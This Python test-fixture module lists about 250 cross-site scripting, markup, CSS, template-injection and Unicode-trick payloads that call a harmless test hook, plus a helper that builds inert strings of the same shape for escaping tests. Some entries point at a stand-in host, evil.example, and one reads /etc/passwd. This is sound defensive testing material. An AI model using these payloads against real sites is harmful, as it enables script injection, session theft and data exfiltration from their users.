"""Words that would run as script, style or markup wherever a page forgot to escape them; of our own making.

Each calls `hit()`, which the tests watch, or changes the page's nodes. `tame` gives words of the same length and line
ends that do nothing, so that the pages of both can be laid side by side.
"""

TAGS = (
    "<script>hit()</script>", "<ScRiPt>hit()</sCrIpT>", "<script src=data:,hit()></script>", "<script>hit()<!--",
    "<scr<script>ipt>hit()</scr</script>ipt>", "<script\x0c>hit()</script>", "<script/x>hit()</script>",
    "<script type=module>hit()</script>", "<script nomodule>hit()</script>", "<script async>hit()</script>",
    "<script>/*<script>*/hit()</script>", "<script\n>hit()\n</script\n>", "<noscript><p title='</noscript><b>hit'>",
    "<b>bold</b>", "<i id=main>twice</i>", "<h1>another heading</h1>", "<plaintext>", "<xmp><b>x", "<listing>x",
    "<title>x</title><b>y", "<textarea><b>", "</textarea><script>hit()</script>", "</title><script>hit()</script>",
    "</style><script>hit()</script>", "</option></select><img src=x onerror=hit()>", "</td></tr></table><b>out",
    "</p></section></main><h2>out</h2>", "<template><b>x</b></template>", "<dialog open>x</dialog>",
    "<details open ontoggle=hit()>x", "<marquee onstart=hit()>x</marquee>", "<blink>x</blink>",
    "<frameset onload=hit()>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>", "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>", "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<meta charset=utf-7>+ADw-script+AD4-hit()",
    "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=preload as=script href=https://evil.example/a.js>",
    "<form action=https://evil.example><button>Go</button>", "<input autofocus onfocus=hit()>",
    "<button formaction=javascript:hit()>x</button>", "<isindex action=javascript:hit()>",
    "<keygen autofocus onfocus=hit()>", "<custom-element onclick=hit()>x</custom-element>", "<a><b><i><u><s>", "<>",
    "< b>x", "<!--", "--><b>x", "<![CDATA[<b>x</b>]]>", "<?xml version='1.0'?><b>x",
    "<!doctype html><body onload=hit()>", "</", "<b",
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover="hit()', "' onmouseover='hit()", '" autofocus onfocus="hit()" x="',
    "' autofocus onfocus='hit()' x='", '"><img src=x onerror=hit()>', "'><img src=x onerror=hit()>",
    "><img src=x onerror=hit()>", '"><script>hit()</script>', "`onmouseover=hit()", '" style="position:fixed;inset:0',
    '" id="main" x="', '" class="problem', '" hidden="', '"/>x<b a="', "' contenteditable='",
    '" onerror=hit() src=x x="', '"\nonfocus=hit()\nautofocus\nx="', '" tabindex=1 onblur=hit() "',
    '"onpointerrawupdate="hit()', '" accesskey="x" onclick="hit()', '" data-rows="https://evil.example/',
    '" hx-get="/add', '" hx-on:load="hit()', '" ping="https://evil.example/', '" popover onbeforetoggle="hit()',
    '" is="x', '" slot="y', '" oncontentvisibilityautostatechange="hit()" style="content-visibility:auto',
    '&quot; onmouseover=&quot;hit()', '&#34; onmouseover=&#34;hit()', "\\\" onmouseover=hit() \\\"",
    '%22%20onmouseover=hit()',
)  # fmt: skip
IMAGES = (
    "<img src=x onerror=hit()>", "<img src=x onerror=&#104;it()>", "<img/src=x/onerror=hit()>",
    "<img src=x:x onerror=hit()//", "<img srcset='x 1x' onerror=hit()>", "<image src=x onerror=hit()>",
    "<video><source onerror=hit()></video>", "<video poster=x onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>", "<picture><img src=x onerror=hit()>",
    "<input type=image src=x onerror=hit()>", "<img src='data:image/svg+xml,<svg onload=hit()>'>",
    "<img src onerror=hit()>", "<body background=x onload=hit()>", "<table background=javascript:hit()>",
)  # fmt: skip
ADDRESSES = (
    "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", " javascript:hit()", "\x01javascript:hit()",
    "javascript://%0ahit()", "javascript:/*x*/hit()", "vbscript:hit()", "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "https://a.example/\"onclick=hit()//",
    "//evil.example/a", "https://a.example/'><script>hit()</script>", "https://a.example/?q=<b>x</b>",
    "http://a.example/&quot;onclick=hit()", "https://a.example/\n<script>hit()</script>", "httpsx:hit()",
    "feed:javascript:hit()", "view-source:javascript:hit()", "blob:https://a.example/x", "file:///etc/passwd",
    "https://user:word@a.example/", "http:///javascript:hit()",
    "https://a.example/%22%3E%3Cscript%3Ehit()%3C/script%3E", "\\\\evil.example\\a", "&#106;avascript:hit()",
)  # fmt: skip
DRAWINGS = (
    "<svg onload=hit()>", "<svg/onload=hit()>", "<svg><script>hit()</script></svg>",
    "<svg><a xlink:href=javascript:hit()>x", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:hit()>", "<svg><foreignObject><b>x</b></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,x#x />", "<svg><style>*{}</style>",
    "<svg><desc><img src=x onerror=hit()></desc></svg>", "<svg></p><style><a id='</style><img src=x onerror=hit()>'>",
    "</text></svg><script>hit()</script>", "</title></svg><img src=x onerror=hit()>",
    "<tspan onclick=hit()>x</tspan>", "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<math href=javascript:hit()>x</math>", "<math><mi xlink:href=javascript:hit()>x</mi></math>",
    "<math><annotation-xml encoding=text/html><b>x</b>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 7 }}", "{{ config }}", "{% for x in (1).__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{''.__class__}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('hit()')()}}", "[[${7*7}]]",
    "{{{hit()}}}", "@{7*7}", "{# x #}<b>y", "{%- raw -%}<b>x</b>{%- endraw -%}", "%(x)s %s %d", "{0.__class__}",
    "{x!r}", "$(hit())", "`hit()`", "{{ x|safe }}<b>", "{{ request.app.state.site }}",
)  # fmt: skip
LETTERS = (
    "\u202e<script>hit()</script>", "\u2066<b>x\u2069", "\u200b<b>\u200bx", "\ufeff<script>hit()</script>",
    "＜script＞hit()＜/script＞", "\u00ab<b>\u00bb", "\u2028<b>x", "\u2029</p><b>x", "\x85<b>x",
    "<b\u00a0onclick=hit()>x", "<\u0130mg src=x onerror=hit()>", "\ufffd<b>x", "\U000e003cscript\U000e003e",
    "<ſcript>hit()</ſcript>", "<b>a\u0300\u0301\u0302\u0303</b>", "\u061c<i>x", "\u180e<b>x",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-", "\x1b[31m<b>x\x1b[0m", "\x07<b>x", "\u115f<b>\u3164", "<b>👩‍👩‍👧</b>",
    "ʺ onmouseover=hit()", "‹script›hit()‹/script›", "%3Cscript%3Ehit()%3C/script%3E",
    "&lt;script&gt;hit()&lt;/script&gt;", "&#60;b&#62;x", "\\u003cscript\\u003ehit()", "\\x3cb\\x3ex",
    "%C0%BCscript%C0%BEhit()",
)  # fmt: skip
SCRIPTS = (
    "';hit();//", '";hit();//', "\\';hit();//", "</script><script>hit()</script>", "-hit()-", "'-hit()-'",
    '"-hit()-"', '"}];hit();[{"x":"', "*/hit()/*", "\\\nhit()//", "\u2028hit()//", "${hit()}",
    '{"__proto__":{"x":1}}', "__proto__", "constructor", "toString", "]]>hit()<![CDATA[", "<!--<script>",
    "-->\nhit()", "hit``", "(hit)()", "eval('hit()')", '","ok":false,"x":"', "null", "NaN", "undefined", "\\", "\"",
    "'", "`",
)  # fmt: skip
STYLES = (
    "<style>*{display:none}</style>", "</style><b>x", "<p style=background:url(//evil.example/a)>",
    "x;background:url(javascript:hit())", "expression(hit())", "@import '//evil.example/a.css';", "}*{color:red}",
    "<style>@import url(//evil.example)</style>", "<link rel=stylesheet href='data:text/css,*{color:red}'>",
    "<div style='animation:x' onanimationstart=hit()>", "-moz-binding:url(//evil.example)",
    "<x style=transition:1s ontransitionend=hit()>",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:hit())", "![x](x\"onerror=\"hit())", "[x](<javascript:hit()>)", "<javascript:hit()>",
    "```\n<b>x</b>\n```", "[x]: javascript:hit()\n[x]", "# <b>x</b>", "> <img src=x onerror=hit()>",
    "| <b> | x |\n|---|---|", "[^1]: <script>hit()</script>", "***<b>x***", "~~<i>~~", "[![x](x)](javascript:hit())",
    "---\ntitle: <b>\n---", "<details><summary>x</summary>",
)  # fmt: skip
KINDS = {
    "tags": TAGS, "attributes": ATTRIBUTES, "images": IMAGES, "addresses": ADDRESSES, "drawings": DRAWINGS,
    "templates": TEMPLATES, "letters": LETTERS, "scripts": SCRIPTS, "styles": STYLES, "markdown": MARKDOWN,
}  # fmt: skip
PAYLOADS = tuple(dict.fromkeys(payload for kind in KINDS.values() for payload in kind))
# One of each kind and of each way out of where a page puts words: what every run takes.
SAMPLE = (
    "</textarea><script>hit()</script>", "</title><script>hit()</script>", ATTRIBUTES[4], IMAGES[1], ADDRESSES[0],
    ADDRESSES[10], DRAWINGS[11], TEMPLATES[0], LETTERS[0], SCRIPTS[3], STYLES[0], MARKDOWN[0],
)  # fmt: skip
_WEB = ("https://", "http://")


def tame(payload: str, number: int = 0) -> str:
    """Letters as many as in `payload`, other ones for each number, with its blanks and line ends, and as an address
    where it is one."""
    head = next((start for start in _WEB if payload.startswith(start)), "")
    letters = iter(f"q{number:x}".translate(str.maketrans("0123456789", "ghijklmnop")))
    return head + "".join(one if one.isspace() else next(letters, "q") for one in payload[len(head) :])
